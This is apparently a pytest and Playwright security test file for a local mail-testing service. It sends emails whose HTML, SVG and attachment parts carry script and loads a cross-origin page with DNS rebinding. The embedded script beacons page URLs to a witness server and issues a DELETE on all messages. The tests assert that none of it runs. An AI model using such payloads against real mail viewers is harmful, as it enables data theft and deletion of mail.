"""Hostile content and hostile pages, in a real browser (Debian's Chromium through Playwright)
against a whole ``pat up``: a message whose parts carry script, and a web page on another
origin, or on a name re-pointed at Pat (DNS rebinding), that tries to read and delete mail."""

from __future__ import annotations

import http.server
import json
import smtplib
import threading
import time
import urllib.request
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from tests.e2e.conftest import PatUp
from tests.e2e.test_web_ui import CHROMIUM, CHROMIUM_ARGS
from tests.support.postgres import free_port


class _Witness(http.server.ThreadingHTTPServer):
    """Another origin: serves ``page`` at / and counts every other request, which only a
    script that ran (or a resource that leaked) would make."""

    page = b""
    hits: list[str]


class _WitnessHandler(http.server.BaseHTTPRequestHandler):
    server: _Witness

    def do_GET(self) -> None:
        if self.path == "/":
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(self.server.page)
            return
        self.server.hits.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def witness() -> Iterator[_Witness]:
    server = _Witness(("127.0.0.1", free_port()), _WitnessHandler)
    server.hits = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


@pytest.fixture
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(
            executable_path=CHROMIUM,
            args=[*CHROMIUM_ARGS, "--host-resolver-rules=MAP rebound.test 127.0.0.1"])
        yield launched
        launched.close()


def _send(pat_up: PatUp, message: EmailMessage) -> None:
    with smtplib.SMTP("127.0.0.1", pat_up.smtp_port) as client:
        client.send_message(message)


def _get_json(pat_up: PatUp, path: str) -> dict[str, object]:
    with urllib.request.urlopen(pat_up.base_url + path) as answer:
        data: dict[str, object] = json.load(answer)
        return data


def _wait_processed(pat_up: PatUp, count: int) -> list[dict[str, object]]:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        items = _get_json(pat_up, "/api/v3/messages")["items"]
        assert isinstance(items, list)
        if len(items) >= count and all(m["status"] != "received" for m in items):
            return items
        time.sleep(0.2)
    raise AssertionError("the messages were not processed in time")


UTF8_NAME = "r\u00e9sum\u00e9 \u2014 \u0444\u0430\u0439\u043b.html"  # not Latin-1


def _hostile_parts(witness: str) -> EmailMessage:
    """Every way a message has been seen to try to run script: an HTML body with script, a
    meta refresh and a base element, a cid: link to a text/html part, an SVG with script."""
    beacon = f"fetch('{witness}/ran?' + location.href, {{mode: 'no-cors'}});"
    wipe = "fetch('/api/v3/messages', {method: 'DELETE'});"
    message = EmailMessage()
    message["From"] = "mallory@evil.example"
    message["To"] = "dev@example.test"
    message["Subject"] = "Hostile parts"
    message.set_content("see the HTML part\n")
    message.add_alternative(
        "<!DOCTYPE html><html><head>"
        f'<base href="{witness}/base/">'
        '<meta http-equiv="refresh" content="0;url=cid:page@evil.example">'
        f"</head><body><p id=probe>no script ran</p><script>{beacon}{wipe}</script>"
        '<a id=cid-page href="cid:page@evil.example">open the page</a> '
        '<a id=cid-svg href="cid:drawing@evil.example">open the drawing</a> '
        '<img id=svg src="cid:drawing@evil.example"> <img id=relative src="pixel.png">'
        "</body></html>", subtype="html")
    html = message.get_payload()[1]  # type: ignore[index]
    html.add_related(f"<script>{beacon}{wipe}</script><p>page</p>".encode(),
                     maintype="text", subtype="html", cid="<page@evil.example>",
                     disposition="inline", filename="page.html")
    html.add_related(
        f'<svg xmlns="http://www.w3.org/2000/svg"><script>{beacon}{wipe}</script>'
        '<rect width="10" height="10"/></svg>'.encode(),
        maintype="image", subtype="svg+xml", cid="<drawing@evil.example>")
    message.add_attachment(f"<script>{beacon}{wipe}</script>".encode(), maintype="text",
                           subtype="html", filename=UTF8_NAME)
    return message


def test_message_parts_run_no_script_anywhere_and_every_message_stays(
        pat_up: PatUp, browser: Browser, witness: _Witness) -> None:
    origin = f"http://127.0.0.1:{witness.server_port}"
    _send(pat_up, _hostile_parts(origin))
    plain = EmailMessage()
    plain["From"], plain["To"], plain["Subject"] = "a@example.test", "b@example.test", "Bystander"
    plain.set_content("I should survive.\n")
    _send(pat_up, plain)
    items = _wait_processed(pat_up, 2)
    hostile = next(m for m in items if m["subject"] == "Hostile parts")
    message_id = quote(str(hostile["id"]), safe="")
    detail = _get_json(pat_up, f"/api/v3/messages/{message_id}")
    parts = detail["parts"]
    assert isinstance(parts, list)

    context = browser.new_context(base_url=pat_up.base_url, accept_downloads=True)
    page: Page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"/view/{message_id}")
    body = page.frame_locator("#body-frame")
    expect(body.locator("#probe")).to_have_text("no script ran")
    # The message's own doctype is kept: standards mode, as mail clients render it.
    assert body.locator("html").evaluate("() => document.compatMode") == "CSS1Compat"
    # Clicking the cid: links opens the parts in new tabs: they become downloads, never
    # documents on Pat's origin.
    served: dict[str, dict[str, str]] = {}
    context.on("response", lambda answer: served.__setitem__(answer.url, answer.headers))
    for link in ("#cid-page", "#cid-svg"):
        href = str(body.locator(link).get_attribute("href"))
        assert "/parts/" in href
        body.locator(link).click()
        page.wait_for_timeout(1500)
        headers = served[pat_up.base_url + href]
        assert headers["content-disposition"].startswith("attachment")
        assert headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in headers["content-security-policy"]
        for tab in context.pages:
            if tab is not page:
                assert tab.evaluate("document.body ? document.body.innerText : ''") == ""
    # Typed into the address bar, every part is a download, never a page on Pat's origin.
    for part in parts:
        assert isinstance(part, dict)
        url = str(part["url"])
        with page.expect_download() as download_info:
            try:
                page.goto(url)
            except Exception:  # Chromium aborts a navigation that becomes a download
                pass
        download = download_info.value
        if str(part["filename"] or "").endswith(".html"):
            assert download.suggested_filename == str(part["filename"])
    time.sleep(1.5)  # time for any script that did run to call home
    context.close()

    assert witness.hits == []
    assert dialogs == []
    assert len(_get_json(pat_up, "/api/v3/messages")["items"]) == 2  # type: ignore[arg-type]


HOSTILE_PAGE = (Path(__file__).parent / "hostile_page.html").read_text()


def test_a_page_on_another_origin_can_neither_read_nor_change_mail(
        pat_up: PatUp, browser: Browser, witness: _Witness) -> None:
    first = EmailMessage()
    first["From"], first["To"], first["Subject"] = "a@example.test", "b@example.test", "Secret"
    first.set_content("password reset link\n")
    _send(pat_up, first)
    items = _wait_processed(pat_up, 1)
    message_id = str(items[0]["id"])
    witness.page = (HOSTILE_PAGE.replace("PORT", str(pat_up.http_port))
                    .replace("ID", quote(message_id, safe="")).encode())

    page = browser.new_page()
    page.goto(f"http://127.0.0.1:{witness.server_port}/")
    page.wait_for_function("window.report.websocket !== 'pending' && "
                           "window.report.events !== 'pending' && "
                           "window.report.reads !== 'pending' && window.report.writes.length === 3")
    second = EmailMessage()
    second["From"], second["To"], second["Subject"] = "a@example.test", "b@example.test", "More"
    second.set_content("another reset link\n")
    _send(pat_up, second)
    _wait_processed(pat_up, 2)
    time.sleep(1)
    report = page.evaluate("window.report")
    assert report["websocket"] == "refused" and report["frames"] == []
    assert report["events"] == "refused"
    assert report["reads"] == "refused"
    # The browser sends the no-cors requests; Pat refuses them for their Origin.
    items = _wait_processed(pat_up, 2)
    assert len(items) == 2
    shown = _get_json(pat_up, f"/api/v3/messages/{quote(message_id, safe='')}")
    assert shown["workflow_id"] == f"email-{message_id}"  # never reprocessed

    # DNS rebinding: the same page, served under a name that now resolves to 127.0.0.1.
    rebound = page.goto(f"http://rebound.test:{pat_up.http_port}/api/v2/messages")
    assert rebound is not None and rebound.status == 421
    assert "Secret" not in page.content()
